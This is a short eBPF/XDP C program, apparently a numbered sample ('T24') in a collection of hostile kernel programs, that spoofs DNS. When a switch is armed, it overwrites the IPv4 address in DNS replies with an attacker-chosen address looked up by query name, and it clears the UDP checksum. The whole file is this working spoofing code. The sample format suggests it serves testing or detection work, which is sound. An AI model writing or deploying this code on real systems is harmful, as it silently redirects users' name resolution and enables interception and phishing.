// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T24: DNS answers are made up: the address in a reply is replaced by one from a map.
#include "net.h"

SAMPLE_SWITCH;
LICENSE;

struct qname {
	char n[16];
};
HASH(spoof, struct qname, __be32, 64);

SEC("xdp")
int dns_spoof(struct xdp_md *ctx)
{
	void *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
	struct iphdr *ip = ipv4(data, end);
	struct udphdr *udp;
	struct dnshdr *dns;
	struct qname q = {};
	__be32 *answer, *to;
	char *name;

	if (!ip)
		return XDP_PASS;
	udp = udp4(ip, end);
	if (!udp || udp->source != bpf_htons(53))
		return XDP_PASS;
	dns = (void *)(udp + 1);
	name = (char *)(dns + 1);
	if ((void *)(name + 48) > end)
		return XDP_PASS;
	for (int i = 0; i < 16; i++)
		q.n[i] = name[i];
	to = bpf_map_lookup_elem(&spoof, &q);
	answer = (__be32 *)(name + 32);
	if (to && sample_armed) {
		*answer = *to;
		udp->check = 0;
	}
	return XDP_PASS;
}
